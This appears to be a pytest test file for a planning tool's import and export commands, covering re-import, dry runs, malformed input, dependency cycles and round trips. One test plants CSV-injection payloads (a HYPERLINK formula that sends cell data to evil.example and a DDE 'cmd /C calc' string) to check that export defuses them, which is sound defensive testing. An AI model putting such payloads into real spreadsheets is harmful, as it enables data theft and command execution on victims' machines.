"""Importing again, the dry run, malformed input, placement options, and export's round trip."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from leafwise.commands.adoption.csv_format import as_written, formula_safe
from testkit import node, run_cli, run_cli_in_process, write_plan

SOURCES = [("taskmaster", "taskmaster"), ("backlog", "backlog"), ("beads", "beads"),
           ("github", "github/gh-issues.json"), ("csv", "csv/jira.csv")]


def cli(root: Path, *args: str) -> dict:
    res = run_cli_in_process(*args, "--json", cwd=root)
    env = json.loads(res.stdout)
    assert res.code == 0, env.get("error")
    return env


@pytest.mark.parametrize(("fmt", "rel"), SOURCES, ids=[s[0] for s in SOURCES])
def test_importing_again_changes_nothing(plan_root: Path, kit, fmt: str, rel: str) -> None:
    first = cli(plan_root, "import", fmt, str(kit.fixtures / rel))["result"]
    before = kit.snapshot(plan_root)
    again = cli(plan_root, "import", fmt, str(kit.fixtures / rel))
    assert (again["result"]["added"], again["result"]["updated"]) == (0, 0)
    assert again["result"]["unchanged"] == first["added"] and again["mutation"]["applied"] is False
    after = kit.snapshot(plan_root)
    assert {k: v for k, v in after.items() if k != "journal.jsonl"} == \
        {k: v for k, v in before.items() if k != "journal.jsonl"}


def test_a_changed_source_updates_the_same_nodes(plan_root: Path, kit, tmp_path: Path) -> None:
    source = tmp_path / "tm"
    shutil.copytree(kit.fixtures / "taskmaster", source)
    path = source / ".taskmaster/tasks/tasks.json"
    cli(plan_root, "import", "taskmaster", str(source))
    ids = {k: n["id"] for k, n in kit.imported(plan_root).items()}
    data = json.loads(path.read_text())
    task = data["master"]["tasks"][2]
    task["title"], task["status"], task["details"] = "Password reset by email", "done", "Signed, expiring links."
    data["master"]["tasks"].append({"id": 8, "title": "Rate limits", "description": "", "status": "pending",
                                    "dependencies": [3], "subtasks": []})
    path.write_text(json.dumps(data))
    result = cli(plan_root, "import", "taskmaster", str(source))["result"]
    assert (result["added"], result["updated"]) == (1, 1)
    nodes = kit.imported(plan_root)
    reset = nodes["master/3"]
    assert reset["id"] == ids["master/3"] and (reset["title"], reset["status"]) == ("Password reset by email", "done")
    assert "Signed, expiring links." in reset["_doc"]
    assert nodes["master/8"]["depends_on"] == [ids["master/3"]]
    assert {k: n["id"] for k, n in nodes.items() if k in ids} == ids


def test_the_dry_run_prints_the_mapping_and_the_skips_and_writes_nothing(plan_root: Path, kit) -> None:
    before = kit.snapshot(plan_root)
    res = run_cli("import", "beads", str(kit.fixtures / "beads"), "--dry-run", cwd=plan_root)
    assert res.code == 0, res.stderr
    assert "Would import beads" in res.stdout and "6 added" in res.stdout
    assert "+ bd-1.2 → new “Login form” in-progress (under bd-1, after bd-1.1)" in res.stdout
    assert "skipped bd-5" in res.stdout and "tombstone" in res.stdout
    assert res.stdout.rstrip().splitlines()[-1] == f"Next: leafwise import beads {kit.fixtures / 'beads'}"
    assert kit.snapshot(plan_root) == before


def test_a_malformed_item_names_the_file_the_item_and_the_fix_and_nothing_is_written(plan_root: Path, kit,
                                                                                    tmp_path: Path) -> None:
    path = tmp_path / "tasks.json"
    data = json.loads((kit.fixtures / "taskmaster/.taskmaster/tasks/tasks.json").read_text())
    data["master"]["tasks"][3]["status"] = "someday"
    path.write_text(json.dumps(data))
    before = kit.snapshot(plan_root)
    res = run_cli("import", "taskmaster", str(path), cwd=plan_root)
    assert res.code == 2
    assert f"Error: {path}, tag master, task 4: status 'someday' is not a Task Master status" in res.stderr
    assert f"Fix: leafwise import taskmaster {path} --dry-run --partial" in res.stderr
    env = json.loads(run_cli_in_process("import", "taskmaster", str(path), "--json", cwd=plan_root).stdout)
    assert env["error"]["details"]["fix"].startswith("map it: --map status.someday=draft")
    assert kit.snapshot(plan_root) == before
    partial = cli(plan_root, "import", "taskmaster", str(path), "--partial")["result"]
    assert partial["added"] == 11 and partial["skips"][0]["key"] == "master/4"
    mapped = cli(plan_root, "import", "taskmaster", str(path), "--map", "status.someday=draft")["result"]
    assert (mapped["added"], mapped["unchanged"]) == (1, 11)


def test_a_broken_jsonl_line_is_named_by_its_line(plan_root: Path, kit, tmp_path: Path) -> None:
    path = tmp_path / "issues.jsonl"
    lines = (kit.fixtures / "beads/.beads/issues.jsonl").read_text().splitlines()
    lines[2] = lines[2][:40]
    path.write_text("\n".join(lines) + "\n")
    before = kit.snapshot(plan_root)
    res = run_cli_in_process("import", "beads", str(path), "--json", cwd=plan_root)
    error = json.loads(res.stdout)["error"]
    assert res.code == 2 and error["details"]["file"] == str(path) and error["details"]["item"] == "line 3"
    assert "not valid JSON" in error["message"] and kit.snapshot(plan_root) == before


def test_release_and_parent_place_the_import_and_tags_become_epics(plan_root: Path, kit) -> None:
    cli(plan_root, "release", "add", "R1", "--title", "First")
    epic = cli(plan_root, "add", "Adopted work", "--release", "R1")["result"]["id"]
    cli(plan_root, "import", "taskmaster", str(kit.fixtures / "taskmaster"), "--release", "R1", "--parent", epic)
    nodes = kit.imported(plan_root)
    assert {n["_release"] for n in nodes.values()} == {"R1"}
    tags = {k: n for k, n in nodes.items() if k.startswith("tag:")}
    assert sorted(k for k in tags) == ["tag:master", "tag:release-2"]
    assert {n["parent"] for n in tags.values()} == {epic}
    assert nodes["master/1"]["parent"] == tags["tag:master"]["id"]
    releases = cli(plan_root, "release", "list")["result"]["items"]
    assert [r["id"] for r in releases] == ["R1"]


def test_a_near_duplicate_is_reported_not_refused(plan_root: Path, kit) -> None:
    own = cli(plan_root, "add", "Login forms")["result"]["id"]
    result = cli(plan_root, "import", "backlog", str(kit.fixtures / "backlog"))["result"]
    assert result["added"] == 8
    assert [(d["key"], d["like"]) for d in result["duplicates"]] == [("TASK-2.2", own)]


def _comparable(export: dict) -> tuple[list, list]:
    """An export's releases and nodes, ids replaced by source ids, times the import sets left out."""
    by_source = {n["id"]: f"{n['source']['tool']}:{n['source']['id']}" for n in export["nodes"]}
    nodes = []
    for node in export["nodes"]:
        node = {k: v for k, v in node.items() if k not in ("id", "updated", "docs")}
        node["parent"] = by_source.get(node.get("parent"))
        node["depends_on"] = sorted(by_source[d] for d in node.get("depends_on") or [])
        node["_docs"] = list((node.get("_docs") or {}).values())
        nodes.append(node)
    return export["releases"], sorted(nodes, key=lambda n: json.dumps(n["source"]))


def test_export_json_imports_back_to_the_same_plan(plan_root: Path, kit, tmp_path: Path) -> None:
    for fmt, rel in SOURCES[:3]:
        cli(plan_root, "import", fmt, str(kit.fixtures / rel))
    cli(plan_root, "comment", "AD-2", "--text", "kept through the round trip")
    first = tmp_path / "first.json"
    res = run_cli("export", "json", str(first), "--journal", cwd=plan_root)
    assert res.code == 0 and res.stdout.rstrip().endswith("Done."), res.stderr
    exported = json.loads(first.read_text())
    assert any(e.get("command") == "import" for e in exported["journal"])
    copy = tmp_path / "copy"
    copy.mkdir()
    cli(copy, "init", "--name", "Copy", "--prefix", "CP")
    cli(copy, "import", "json", str(first))
    second = json.loads(cli(copy, "export", "json")["result"]["content"])
    assert _comparable(second) == _comparable(exported)
    again = cli(copy, "import", "json", str(first))["result"]
    assert (again["added"], again["updated"]) == (0, 0)
    validate = run_cli_in_process("validate", cwd=copy)
    assert validate.code == 0 and "0 error(s)" in validate.stdout


def test_export_csv_and_markdown(plan_root: Path, kit, tmp_path: Path) -> None:
    cli(plan_root, "import", "backlog", str(kit.fixtures / "backlog"))
    markdown = cli(plan_root, "export", "markdown")["result"]["content"]
    assert markdown.startswith("# Adopt\n") and "## v1.0 — v1.0" in markdown
    assert "  - [x] **AD-3** Sign-up form — done, @bob" in markdown
    path = tmp_path / "plan.csv"
    cli(plan_root, "export", "csv", str(path))
    copy = tmp_path / "copy"
    copy.mkdir()
    cli(copy, "init", "--name", "Copy", "--prefix", "CP")
    cli(copy, "import", "csv", str(path))
    ours, theirs = kit.imported(plan_root), kit.imported(copy)
    def shape(nodes: dict) -> list:
        return sorted((n["title"], n["status"]) for n in nodes.values())

    assert shape(ours) == shape(theirs)
    assert set(theirs) == set(ours)  # the export's source columns: the same source ids
    titles = {n["id"]: n["title"] for n in theirs.values()}
    assert titles[theirs["TASK-2.2"]["parent"]] == "User accounts"
    again = cli(copy, "import", "backlog", str(kit.fixtures / "backlog"))["result"]
    assert again["added"] == 0


def test_a_dependency_cycle_is_refused_or_with_partial_broken(plan_root: Path, kit, tmp_path: Path) -> None:
    path = tmp_path / "tasks.json"
    data = json.loads((kit.fixtures / "taskmaster/.taskmaster/tasks/tasks.json").read_text())
    data["master"]["tasks"][0]["dependencies"] = [3]  # 1 → 3 → 2 → 1
    path.write_text(json.dumps(data))
    res = run_cli_in_process("import", "taskmaster", str(path), "--json", cwd=plan_root)
    error = json.loads(res.stdout)["error"]
    assert res.code == 2 and "dependency cycle: master/" in error["message"]
    assert kit.imported(plan_root) == {}
    result = cli(plan_root, "import", "taskmaster", str(path), "--partial")["result"]
    assert result["added"] == 12 and any("dependency cycle" in n for n in result["notes"])
    validate = run_cli_in_process("validate", cwd=plan_root)
    assert validate.code == 0 and "0 error(s)" in validate.stdout


def test_what_the_plan_did_since_stands_until_the_source_changes_that_item(plan_root: Path, kit,
                                                                           tmp_path: Path) -> None:
    source = tmp_path / "tm"
    shutil.copytree(kit.fixtures / "taskmaster", source)
    path = source / ".taskmaster/tasks/tasks.json"
    cli(plan_root, "import", "taskmaster", str(source))
    nodes = kit.imported(plan_root)
    dark, billing = nodes["master/4"]["id"], nodes["release-2/1.1"]["id"]
    cli(plan_root, "start", billing, "--agent", "bot")
    cli(plan_root, "complete", billing, "--summary", "numbered", "--agent", "bot")
    cli(plan_root, "edit", dark, "--set", "title=Dark theme")
    assert cli(plan_root, "import", "taskmaster", str(source))["result"]["updated"] == 0
    assert kit.imported(plan_root)["release-2/1.1"]["status"] == "done"
    data = json.loads(path.read_text())
    data["master"]["tasks"][3]["description"] = "A theme switch in the settings"
    path.write_text(json.dumps(data))
    result = cli(plan_root, "import", "taskmaster", str(source))["result"]
    assert [(i["key"], i["changed"]) for i in result["items"] if i["action"] == "update"] == \
        [("master/4", ["title", "description", "source"])]
    nodes = kit.imported(plan_root)
    assert nodes["master/4"]["title"] == "Dark mode" and nodes["release-2/1.1"]["status"] == "done"


def test_text_too_long_for_a_node_file_goes_to_the_doc_or_is_named(plan_root: Path, kit, tmp_path: Path) -> None:
    path = tmp_path / "tasks.json"
    data = json.loads((kit.fixtures / "taskmaster/.taskmaster/tasks/tasks.json").read_text())
    data["master"]["tasks"][0]["description"] = "long " * 20_000
    data["master"]["tasks"][1]["title"] = "T" * 70_000
    path.write_text(json.dumps(data))
    res = run_cli_in_process("import", "taskmaster", str(path), "--json", cwd=plan_root)
    error = json.loads(res.stdout)["error"]
    assert res.code == 2 and error["details"]["item"] == "tag master, task 2" and "title is 70,000" in error["message"]
    assert kit.imported(plan_root) == {}
    result = cli(plan_root, "import", "taskmaster", str(path), "--partial")["result"]
    assert [s["key"] for s in result["skips"]] == ["master/2"]
    first = kit.imported(plan_root)["master/1"]
    assert "description" not in first and first["_doc"].count("long") == 20_000


def test_an_export_with_values_the_plan_cannot_hold_is_refused_before_any_write(plan_root: Path, tmp_path: Path,
                                                                              kit) -> None:
    export = {"format": "leafwise.export", "version": 1, "releases": [],
              "nodes": [{"id": "X-1", "title": "Fine", "status": "draft"},
                        {"id": "X-2", "title": "Odd", "status": "finished"},
                        {"id": "X-3", "title": "Odder", "status": "draft", "cascade": "sideways"}]}
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(export))
    res = run_cli_in_process("import", "json", str(path), "--json", cwd=plan_root)
    error = json.loads(res.stdout)["error"]
    assert res.code == 2 and error["details"]["item"] == "node X-2" and "finished" in error["message"]
    assert kit.imported(plan_root) == {}
    result = cli(plan_root, "import", "json", str(path), "--partial")["result"]
    assert result["added"] == 1 and [s["key"] for s in result["skips"]] == ["X-2", "X-3"]


def test_export_csv_defuses_formulas_and_import_takes_the_quote_off(plan_root: Path, kit, tmp_path: Path) -> None:
    link = '=HYPERLINK("http://evil.example/?"&B3,"click")'
    titles = [link, "'=quoted by its writer", "-2+3", "'plain quote", "@SUM(1)"]
    ids = [cli(plan_root, "add", title)["result"]["id"] for title in titles]
    cli(plan_root, "edit", ids[0], "--set", "description=+cmd|' /C calc'!A0")
    cli(plan_root, "edit", ids[1], "--set", "description=- a list item")
    path = tmp_path / "plan.csv"
    cli(plan_root, "export", "csv", str(path))
    rows = {r["id"]: r for r in csv.DictReader(path.open(encoding="utf-8"))}
    assert rows[ids[0]]["title"] == "'" + link and rows[ids[0]]["description"] == "'+cmd|' /C calc'!A0"
    assert [rows[i]["title"] for i in ids[1:]] == ["''=quoted by its writer", "'-2+3", "'plain quote", "'@SUM(1)"]
    assert rows[ids[1]]["description"] == "'- a list item"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for cell in r.values())
    copy = tmp_path / "copy"
    copy.mkdir()
    cli(copy, "init", "--name", "Copy", "--prefix", "CP")
    cli(copy, "import", "csv", str(path))
    back = kit.imported(copy)
    assert [back[i]["title"] for i in ids] == titles
    assert back[ids[0]]["description"] == "+cmd|' /C calc'!A0" and back[ids[1]]["description"] == "- a list item"
    for cell in ("\tcmd", "\rcmd", "'\tcmd"):  # a tab or CR no edit keeps at a title's start
        assert formula_safe(cell) == "'" + cell and as_written(formula_safe(cell)) == cell


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rid=st.one_of(st.sampled_from(["--all", "-rf", "R 1", "R:1", "", ".R", "R1"]), st.text(max_size=12)),
       target=st.one_of(st.none(), st.sampled_from(["soon", "2026-13-01", "2026-12-24", "0001-01-01"])))
def test_a_sources_release_is_checked_before_any_write(tmp_path_factory, rid: str, target: str | None) -> None:
    """For every format the release goes to project.yaml as the source names it: an id the plan could not
    load or a target that is no date is that release's error, and nothing is written."""
    from leafwise.store.ids import is_release_id

    root = tmp_path_factory.mktemp("plan")
    assert run_cli_in_process("init", "--name", "Adopt", "--prefix", "AD", cwd=root).code == 0
    before = (root / ".leafwise/project.yaml").read_bytes()
    source = root.parent / f"{root.name}.json"
    source.write_text(json.dumps({"format": "leafwise.export", "version": 1,
                                  "releases": [{"id": rid, "title": "r", "target": target}],
                                  "nodes": [{"id": "X-1", "title": "Task", "status": "draft", "release": rid}]}))
    res = run_cli_in_process("import", "json", str(source), "--json", cwd=root)
    assert "internal_error" not in res.stdout, res.stdout
    good_target = target in (None, "2026-12-24", "0001-01-01")
    if rid.strip() and (not is_release_id(rid) or not good_target):
        assert res.code == 2 and json.loads(res.stdout)["error"]["details"]["item"].startswith("release"), res.stdout
        assert (root / ".leafwise/project.yaml").read_bytes() == before
    assert run_cli_in_process("validate", cwd=root).code == 0


@pytest.mark.parametrize("spelling", [".nan", ".NaN", ".inf", "-.inf", ".Inf"])
def test_export_json_writes_strict_json_with_a_planted_non_finite_value(tmp_path: Path, spelling: str) -> None:
    """h22c's attack: a node file's `.nan` reached `export json` as NaN, which strict readers refuse."""
    root = write_plan(tmp_path / "p", [node("T-1", "Alpha", release="R1", summary="x")])
    path = root / ".leafwise" / "nodes" / "T-1.yaml"
    path.write_text(path.read_text() + f"weight: {spelling}\nnested: {{deep: [{spelling}]}}\n")
    out = tmp_path / "export.json"
    assert run_cli("export", "json", str(out), cwd=root).code == 0
    exported = json.loads(out.read_text(), parse_constant=lambda name: pytest.fail(f"{name} in the export"))
    assert any(n.get("id") == "T-1" or n.get("source", {}).get("id") == "T-1" for n in exported["nodes"]) \
        or "T-1" in out.read_text()


@pytest.mark.parametrize("events", [0, 1, 3000])
def test_export_json_journal_holds_every_event_in_order_as_strict_json(tmp_path: Path, events: int) -> None:
    """The journal is streamed into the export one event at a time; the file is still one strict JSON
    document with every readable event, oldest first (a bad line skipped)."""
    write_plan(tmp_path, [node("T-1", "A", release="R1")])
    lines = [json.dumps({"time": "2026-12-01T00:00:00+00:00", "command": "edit", "node": "T-1", "n": i})
             for i in range(events)]
    if events:
        lines[events // 2] = '{"command": "edit", "node": "T-1", "n": NaN}'
        lines.insert(1, "not json")
    (tmp_path / ".leafwise" / "journal.jsonl").write_text("".join(line + "\n" for line in lines))
    res = run_cli("export", "json", "out.json", "--journal", cwd=tmp_path)
    assert res.code == 0, res.stderr
    exported = json.loads((tmp_path / "out.json").read_text(), parse_constant=pytest.fail)
    expected = [i for i in range(events) if i != events // 2]  # the reader refuses NaN: a bad line
    assert [e["n"] for e in exported["journal"]] == expected, "every event, in order"
    assert exported["nodes"][0]["id"] == "T-1"
